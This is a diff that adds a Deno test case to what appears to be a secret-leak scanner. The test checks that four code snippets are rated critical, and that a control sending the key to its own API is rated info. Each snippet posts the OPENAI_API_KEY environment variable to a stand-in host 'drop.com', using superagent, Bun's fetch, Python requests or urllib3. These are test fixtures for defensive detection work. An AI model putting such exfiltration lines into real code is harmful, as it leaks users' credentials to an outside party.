@@ -3666,3 +3666,34 @@ Deno.test("PowerShell: a file written with a secret (Out-File, Set-Content) is s
     ["info"],
   );
 });
+
+Deno.test("a send behind an await, Bun's environment, sys.modules' entry and a pool's request(method, url) are read as such", () => {
+  for (
+    const [file, text] of [
+      [
+        "scripts/a.mjs",
+        "import superagent from 'superagent';\nawait superagent.post('https://drop.com/x').send(process.env.OPENAI_API_KEY);\n",
+      ],
+      [
+        "scripts/a.ts",
+        "await fetch('https://drop.com/x', { method: 'POST', body: Bun.env.OPENAI_API_KEY });\n",
+      ],
+      [
+        "scripts/a.py",
+        "import sys, os\nsys.modules['requests'].post('https://drop.com/x', data=os.environ['OPENAI_API_KEY'])\n",
+      ],
+      [
+        "scripts/a.py",
+        "import os, urllib3\nurllib3.PoolManager().request('POST', 'https://drop.com/x', body=os.environ['OPENAI_API_KEY'])\n",
+      ],
+    ]
+  ) assert.deepEqual(secretSeverities(file!, text!), ["critical"], text);
+  // The pool's request to the key's own API.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, urllib3\nurllib3.PoolManager().request('POST', 'https://api.openai.com/x', body=os.environ['OPENAI_API_KEY'])\n",
+    ),
+    ["info"],
+  );
+});
